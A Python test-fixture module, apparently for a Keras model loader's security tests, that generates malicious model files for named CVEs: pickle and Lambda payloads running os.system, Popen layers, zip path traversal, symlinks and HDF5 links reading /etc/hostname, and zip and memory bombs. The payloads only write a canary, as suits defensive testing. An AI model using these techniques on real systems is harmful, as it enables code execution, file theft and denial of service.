"""Files that attack a program that opens them, a function for each, with the name of the hole that it uses.

Each writes into the current folder and returns the path to open. Whatever runs would write the file `canary`.
"""

import io
import json
import os
import pickle
import struct
import zipfile
from pathlib import Path

import h5py
import keras
import numpy as np
from keras import layers

from kzoo.zoo.loading.archive import MAX_CONFIG

MIB = 1 << 20


class Canary(layers.Layer):
    """A layer that another package has registered: building it writes the canary."""

    def __init__(self, path="canary", **options):
        super().__init__(**options)
        Path(path).write_text("built")

    def call(self, x):
        return x


def sing(x):
    Path("canary").write_text("called")
    return x


class Pickled:
    def __reduce__(self):
        return os.system, ("touch canary",)


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


# --- how the files are made -----------------------------------------------------------------------------------------


def dense(units=3):
    return keras.Sequential(
        [keras.Input((4,)), layers.Dense(units, name="first"), layers.Dense(2, name="second")]
    )


def parts_of(model, name="made.keras"):
    model.save(name)
    with zipfile.ZipFile(name) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    os.unlink(name)
    return parts


def write(parts, name="attack.keras", packed=()):
    with zipfile.ZipFile(name, "w") as archive:
        for member, data in parts.items():
            method = zipfile.ZIP_DEFLATED if member in packed else zipfile.ZIP_STORED
            archive.writestr(member, data, compress_type=method, compresslevel=1)
    return name


def with_config(change, model=None, name="attack.keras"):
    """Save a model whose configuration `change(config)` has altered or replaced."""
    parts = parts_of(model or dense())
    config = json.loads(parts["config.json"])
    config = change(config) or config
    parts["config.json"] = json.dumps(config).encode()
    return write(parts, name)


def with_layer(layer):
    """Save a small model in which `layer` stands in the place of the first dense layer."""

    def change(config):
        config["config"]["layers"][1] = layer

    return with_config(change)


def with_text(old, new, model=None):
    """Save a model in whose configuration one piece of text stands for another."""
    parts = parts_of(model or dense())
    text = parts["config.json"].decode()
    assert old in text
    parts["config.json"] = text.replace(old, new).encode()
    return write(parts)


def with_weights(change, model=None):
    """Save a model after `change(file)` has altered the HDF5 file of its weights."""
    parts = parts_of(model or dense())
    buffer = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(buffer, "r+") as file:
        change(file)
    parts["model.weights.h5"] = buffer.getvalue()
    return write(parts)


def layer(class_name, config, module="keras.layers", **more):
    config = {"name": "evil", "trainable": True, "dtype": "float32"} | config
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": None,
    } | more


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def relu():
    return keras.Sequential([keras.Input((4,)), layers.Activation("relu")])


def lambda_in(model):
    """Save a model whose activation, however deep, has become a `Lambda` that calls a function of Keras' own."""
    parts = parts_of(model)
    text = (
        parts["config.json"]
        .decode()
        .replace('"class_name": "Activation"', '"class_name": "Lambda"')
    )
    text = text.replace(
        '"activation": "relu"', f'"function": {json.dumps(function("keras.ops", "abs"))}'
    )
    return write(parts | {"config.json": text.encode()})


def kernel(file):
    return file["layers/dense/vars"]


# --- code in the file -----------------------------------------------------------------------------------------------


@attack
def cve_2024_3660_python_lambda_as_bytecode():
    model = keras.Sequential([keras.Input((4,)), layers.Lambda(lambda x: sing(x))])
    model.save("attack.keras")
    return "attack.keras"


@attack
def cve_2025_1550_any_function_of_any_module():
    return with_layer(
        layer(
            "Lambda",
            {"function": function("os", "system"), "arguments": {"command": "touch canary"}},
        )
    )


@attack
def cve_2025_1550_any_class_of_any_module():
    return with_layer(layer("Popen", {"args": ["touch", "canary"]}, module="subprocess"))


@attack
def cve_2025_8747_lambda_that_downloads_by_get_file():
    arguments = {"origin": "file:///etc/hostname", "cache_dir": "."}
    return with_layer(
        layer("Lambda", {"function": function("keras.utils", "get_file"), "arguments": arguments})
    )


@attack
def cve_2025_9906_switches_safe_mode_off_first():
    switch = layer(
        "Lambda", {"function": function("keras.config", "enable_unsafe_deserialization")}
    )
    return with_layer(switch)


@attack
def cve_2025_9905_lambda_in_h5():
    model = keras.Sequential([keras.Input((4,)), layers.Lambda(lambda x: sing(x))])
    model.save("attack.h5")
    return "attack.h5"


@attack
def cve_2025_49655_torch_module_wrapper():
    return with_layer(
        layer("TorchModuleWrapper", {"module": "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU"})
    )


@attack
def cve_2026_1462_tfsm_layer_loads_another_folder():
    return with_layer(layer("TFSMLayer", {"filepath": "saved_model", "call_endpoint": "serve"}))


@attack
def cve_2026_12481_lambda_inside_a_wrapper():
    inner = layer("Lambda", {"function": function("keras.ops", "abs")})
    return with_layer(layer("TimeDistributed", {"layer": inner}))


@attack
def cve_2026_12481_lambda_in_a_nested_model():
    return lambda_in(keras.Sequential([keras.Input((4,)), relu()]))


@attack
def open_lambda_with_a_named_keras_function():
    return lambda_in(relu())


@attack
def open_23654_an_activation_that_constructs_a_tfsm_layer():
    return with_layer(
        layer("Dense", {"units": 3, "activation": function("keras.layers", "TFSMLayer")})
    )


@attack
def open_activation_by_the_name_of_a_keras_function():
    return with_layer(
        layer("Dense", {"units": 3, "activation": function("keras.saving", "load_model")})
    )


@attack
def open_class_that_another_package_registered():
    keras.saving.register_keras_serializable("bird")(Canary)
    keras.Sequential([keras.Input((4,)), Canary()]).save("attack.keras")
    return "attack.keras"


@attack
def open_registered_class_behind_a_built_in_name():
    keras.saving.register_keras_serializable("bird")(Canary)
    return with_layer(layer("Dense", {"units": 3}, registered_name="bird>Canary"))


@attack
def open_built_in_name_with_another_registered_name():
    return with_layer(layer("Dense", {"units": 3}, registered_name="nobody>Canary"))


@attack
def open_registered_function_by_a_plain_string():
    keras.saving.register_keras_serializable("bird")(sing)
    return with_layer(layer("Dense", {"units": 3, "kernel_initializer": "bird>sing"}))


@attack
def open_typespec_names_any_class():
    spec = {
        "class_name": "__typespec__",
        "spec_name": "Popen",
        "module": "subprocess",
        "config": [],
        "registered_name": 1,
    }
    return with_layer(layer("Dense", {"units": 3, "kernel_initializer": spec}))


@attack
def open_lambda_marker_as_an_argument():
    code = {
        "class_name": "__lambda__",
        "config": {"value": {"code": "4wAAAAA=", "defaults": None, "closure": None}},
    }
    return with_layer(layer("Dense", {"units": 3, "activation": code}))


@attack
def open_layer_in_the_legacy_format_without_module():
    return with_layer({"class_name": "Lambda", "config": {"function": "abs", "name": "evil"}})


@attack
def open_private_class_of_keras():
    return with_layer(
        layer("Lambda", {"function": "abs"}, module="keras.src.layers.core.lambda_layer")
    )


@attack
def open_operation_that_takes_a_function():
    return with_layer(
        layer("Map", {"f": function("keras.saving", "load_model")}, module="keras.src.ops.core")
    )


@attack
def open_pickle():
    Path("attack.pkl").write_bytes(pickle.dumps(Pickled()))
    return "attack.pkl"


@attack
def open_pickle_called_keras():
    Path("attack.keras").write_bytes(pickle.dumps(Pickled()))
    return "attack.keras"


@attack
def open_joblib():
    Path("attack.joblib").write_bytes(pickle.dumps(Pickled()))
    return "attack.joblib"


@attack
def open_pickled_npz_instead_of_weights():
    parts = parts_of(dense())
    del parts["model.weights.h5"]
    buffer = io.BytesIO()
    np.savez(buffer, x=np.array(Pickled(), dtype=object))
    return write(parts | {"model.weights.npz": buffer.getvalue()})


@attack
def open_saved_model_folder():
    Path("attack").mkdir()
    Path("attack/saved_model.pb").write_bytes(b"\x08\x01")
    return "attack"


# --- other files and addresses --------------------------------------------------------------------------------------


@attack
def cve_2025_12058_vocabulary_from_a_path():
    return with_layer(
        layer("StringLookup", {"vocabulary": "/etc/hostname", "vocabulary_dtype": "string"})
    )


@attack
def cve_2025_12058_vocabulary_from_an_address():
    return with_layer(
        layer("IntegerLookup", {"vocabulary": "gs://bucket/secret", "vocabulary_dtype": "int64"})
    )


@attack
def cve_2025_12058_text_vocabulary_from_a_path():
    return with_layer(layer("TextVectorization", {"vocabulary": "/etc/hostname"}))


@attack
def cve_2025_12060_member_climbs_out():
    return write(parts_of(dense()) | {"assets/../../vocabulary.txt": b"x"})


@attack
def ghsa_hqp4_2352_xf5r_member_with_an_absolute_path():
    return write(parts_of(dense()) | {"/tmp/canary": b"x"})


@attack
def cve_2026_12479_member_with_backslashes():
    parts = parts_of(dense())
    name = write(parts | {"assets/..|..|vocabulary.txt": b"x"})
    raw = Path(name).read_bytes().replace(b"assets/..|..|", b"assets\\..\\..\\")
    Path(name).write_bytes(raw)
    return name


@attack
def open_member_that_is_a_symlink():
    parts = parts_of(dense())
    write(parts)
    link = zipfile.ZipInfo("assets/vocabulary.txt")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile("attack.keras", "a") as archive:
        archive.writestr(link, "/etc/hostname")
    return "attack.keras"


@attack
def cve_2026_1669_array_in_another_file():
    Path("secret").write_bytes(b"s" * 48)

    def change(file):
        del kernel(file)["0"]
        kernel(file).create_dataset(
            "0", (4, 3), "float32", external=[(os.path.abspath("secret"), 0, 48)]
        )

    return with_weights(change)


@attack
def cve_2026_1669_external_link():
    def change(file):
        del kernel(file)["0"]
        kernel(file)["0"] = h5py.ExternalLink("other.h5", "/secret")

    return with_weights(change)


@attack
def cve_2026_1669_external_link_in_a_group_above():
    def change(file):
        del file["layers/dense"]
        file["layers/dense"] = h5py.ExternalLink("other.h5", "/")

    return with_weights(change)


@attack
def cve_2026_1669_soft_link():
    def change(file):
        del kernel(file)["0"]
        kernel(file)["0"] = h5py.SoftLink("/layers/dense_1/vars/0")

    return with_weights(change)


@attack
def cve_2026_1669_virtual_array():
    def change(file):
        del kernel(file)["0"]
        layout = h5py.VirtualLayout((4, 3), "float32")
        layout[:] = h5py.VirtualSource("other.h5", "secret", (4, 3))
        kernel(file).create_virtual_dataset("0", layout)

    return with_weights(change)


@attack
def open_folder_form_with_a_symlink_as_vocabulary():
    model = keras.Sequential([keras.Input((1,), dtype="string"), layers.StringLookup(name="words")])
    model.layers[0].adapt(["a", "b"])
    for name, data in parts_of(model).items():
        file = Path("attack", name)
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(data)
    vocabulary = next(Path("attack").rglob("vocabulary.txt"))
    vocabulary.unlink()
    vocabulary.symlink_to("/etc/hostname")
    return "attack"


@attack
def open_symlink():
    dense().save("there.keras")
    Path("attack.keras").symlink_to("there.keras")
    return "attack.keras"


@attack
def open_named_pipe():
    os.mkfifo("attack.keras")
    return "attack.keras"


@attack
def open_hugging_face_address():
    return "hf://somebody/model.keras"


@attack
def open_cloud_address():
    return "gs://bucket/model.keras"


# --- two readings of one file ---------------------------------------------------------------------------------------


@attack
def open_member_twice():
    parts = parts_of(dense())
    write(parts)
    with zipfile.ZipFile("attack.keras", "a") as archive, _quiet():
        archive.writestr("config.json", parts["config.json"])
    return "attack.keras"


@attack
def open_key_twice():
    return with_text('"class_name": "Dense"', '"class_name": "Lambda", "class_name": "Dense"')


@attack
def open_encrypted_member():
    raw = bytearray(Path(write(parts_of(dense()))).read_bytes())
    entry = raw.index(b"PK\1\2")
    raw[entry + 8] |= 1
    Path("attack.keras").write_bytes(raw)
    return "attack.keras"


@attack
def open_bytes_before_the_zip():
    raw = Path(write(parts_of(dense()))).read_bytes()
    Path("attack.keras").write_bytes(b"PK\ntouch canary\n" + raw)
    return "attack.keras"


# --- bombs ----------------------------------------------------------------------------------------------------------


@attack
def bomb_zip_config():
    return write(parts_of(dense()) | {"config.json": b" " * (300 * MIB)}, packed=("config.json",))


@attack
def bomb_zip_weights():
    return write(
        parts_of(dense()) | {"model.weights.h5": bytes(300 * MIB)}, packed=("model.weights.h5",)
    )


@attack
def bomb_zip_asset():
    member = "assets/_layer/vocabulary.txt"
    return write(parts_of(dense()) | {member: bytes(200 * MIB)}, packed=(member,))


@attack
def bomb_zip_understates_its_size():
    name = write(
        parts_of(dense()) | {"model.weights.h5": bytes(300 * MIB)}, packed=("model.weights.h5",)
    )
    raw = Path(name).read_bytes().replace(struct.pack("<L", 300 * MIB), struct.pack("<L", 1000))
    Path(name).write_bytes(raw)
    return name


@attack
def bomb_zip_with_a_million_members():
    entry = (
        struct.pack(
            "<4s4B4HL2L5H2L", b"PK\1\2", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0
        )
        + b"a"
    )
    raw = Path(write(parts_of(dense()))).read_bytes()
    start = raw.index(b"PK\1\2")
    many = entry * 1_000_000
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 65535, 65535, len(many), start, 0)
    Path("attack.keras").write_bytes(raw[:start] + many + end)
    return "attack.keras"


@attack
def bomb_json_depth():
    return write(parts_of(dense()) | {"config.json": b"[" * 200_000 + b"]" * 200_000})


@attack
def open_a_hundred_lists_in_one_another():
    return with_text('"units": 3', '"units": ' + "[" * 100 + "]" * 100)


@attack
def bomb_json_of_empty_lists():
    return write(parts_of(dense()) | {"config.json": b"[" + b"[]," * (5 * MIB) + b"[]]"})


@attack
def bomb_json_of_as_many_lists_as_fit():
    return write(
        parts_of(dense()) | {"config.json": b"[" + b"[]," * (MAX_CONFIG // 3 - 2) + b"[]]"}
    )


@attack
def bomb_not_a_number():
    return with_text('"units": 3', '"units": NaN')


@attack
def bomb_array_type_of_a_gigabyte_an_entry():
    array = {"class_name": "__numpy__", "config": {"value": ["a"], "dtype": "S1000000000"}}
    return with_layer(layer("Dense", {"units": 3, "kernel_initializer": array}))


@attack
def cve_2026_0897_shape_bomb():
    def change(file):
        del kernel(file)["0"]
        kernel(file).create_dataset(
            "0", (1 << 16, 1 << 16), "float32", chunks=(256, 256), compression="gzip"
        )

    return with_weights(change)


@attack
def cve_2026_0897_many_small_shape_bombs():
    def change(file):
        for i in range(2000):
            file.create_dataset(f"layers/more{i}/vars/0", (1 << 17,), "float32", chunks=(1 << 17,))

    return with_weights(change)


@attack
def cve_2026_0897_shape_bomb_beside_honest_weights():
    def change(file):
        file["layers/honest/vars/0"] = np.random.default_rng(0).random(1 << 18)
        file.create_dataset(
            "layers/more/vars/0", (1 << 22,), "float64", chunks=(1 << 17,), compression="gzip"
        )

    return with_weights(change)


@attack
def bomb_chunk_larger_than_its_array():
    def change(file):
        del kernel(file)["0"]
        array = kernel(file).create_dataset(
            "0",
            (4, 3),
            "float32",
            chunks=(1 << 14, 1 << 14),
            maxshape=(None, None),
            compression="gzip",
            fillvalue=1,
        )
        assert array.shape == (4, 3)

    return with_weights(change)


@attack
def bomb_architecture_with_thirty_million_units():
    return with_text('"units": 2', '"units": 30000000')


@attack
def bomb_architecture_of_dimensions_that_are_stored():
    def change(config):
        first, second = config["config"]["layers"][1:3]
        for part in (first, second):
            part["config"]["units"] = 30_000
            part.pop("build_config", None)
        second.pop("build_config", None)

    def weights(file):
        for name in ("dense", "dense_1"):
            del file[f"layers/{name}/vars/1"]
            file[f"layers/{name}/vars/1"] = np.zeros(30_000, "float32")

    with_weights(weights)
    with zipfile.ZipFile("attack.keras") as archive:
        stored = archive.read("model.weights.h5")
    with_config(change)
    with zipfile.ZipFile("attack.keras") as archive:
        config = archive.read("config.json")
    return write({"config.json": config, "metadata.json": b"{}", "model.weights.h5": stored})


@attack
def bomb_architecture_by_its_build_config():
    def change(config):
        config["config"]["layers"][1]["build_config"] = {"input_shape": [None, 3_000_000_000]}

    return with_config(change)


@attack
def bomb_one_array_for_many_layers():
    wide = [layers.Dense(1000, name=f"wide{i}") for i in range(12)]
    parts = parts_of(keras.Sequential([keras.Input((1000,)), *wide]))
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        for i in range(12):
            name = "layers/dense" + (f"_{i}" if i else "")
            file[f"{name}/vars/1"] = np.zeros(1000, "float32")
            file[f"{name}/vars/0"] = (
                file["layers/dense/vars/0"] if i else np.zeros((1000, 1000), "float32")
            )
    return write(parts | {"model.weights.h5": buffer.getvalue()})


@attack
def bomb_group_inside_itself():
    def change(file):
        for i in range(20):
            file[f"layers/again{i}"] = file["layers"]

    return with_weights(change)


@attack
def bomb_states_of_a_huge_batch():
    model = keras.Sequential([keras.Input(batch_shape=(4, 5, 2)), layers.LSTM(3, stateful=True)])
    return with_text("[4, 5, 2]", "[400000000, 5, 2]", model)


@attack
def bomb_states_by_a_true_that_is_one():
    model = keras.Sequential([keras.Input(batch_shape=(4, 5, 2)), layers.LSTM(3, stateful=True)])
    return with_text('"stateful": true', '"stateful": 1', model)


@attack
def bomb_states_by_the_build_config():
    def change(config):
        config["config"]["layers"][1]["build_config"] = {"input_shape": [400_000_000, 5, 2]}

    return with_config(
        change,
        keras.Sequential([keras.Input(batch_shape=(4, 5, 2)), layers.LSTM(3, stateful=True)]),
    )


@attack
def bomb_unknown_words_without_end():
    words = {"vocabulary": ["a"], "num_oov_indices": 4_000_000_000, "output_mode": "count"}
    return with_layer(layer("StringLookup", words))


@attack
def bomb_padding_of_a_vocabulary():
    words = {
        "vocabulary": ["a"],
        "idf_weights": [1.0],
        "max_tokens": 4_000_000_000,
        "pad_to_max_tokens": True,
    }
    return with_layer(layer("StringLookup", words | {"output_mode": "tf_idf"}))


@attack
def bomb_models_that_call_one_another_twice():
    x = keras.Input((4,))
    model = keras.Model(x, layers.Activation("relu")(x))
    for _ in range(9):
        y = x
        for _ in range(4):
            y = model(y)
        model = keras.Model(x, y)
    return with_config(lambda config: None, model)


@attack
def open_weights_of_python_objects():
    def change(file):
        del kernel(file)["0"]
        kernel(file).create_dataset(
            "0", data=np.array(["a", "b"], dtype=object), dtype=h5py.string_dtype()
        )

    return with_weights(change)


@attack
def open_weights_of_references():
    def change(file):
        file.create_dataset("layers/more", (1,), dtype=h5py.ref_dtype)

    return with_weights(change)


@attack
def open_weights_with_a_named_type():
    def change(file):
        file["layers/kind"] = np.dtype("float32")

    return with_weights(change)


def _quiet():
    import warnings

    return warnings.catch_warnings(action="ignore")
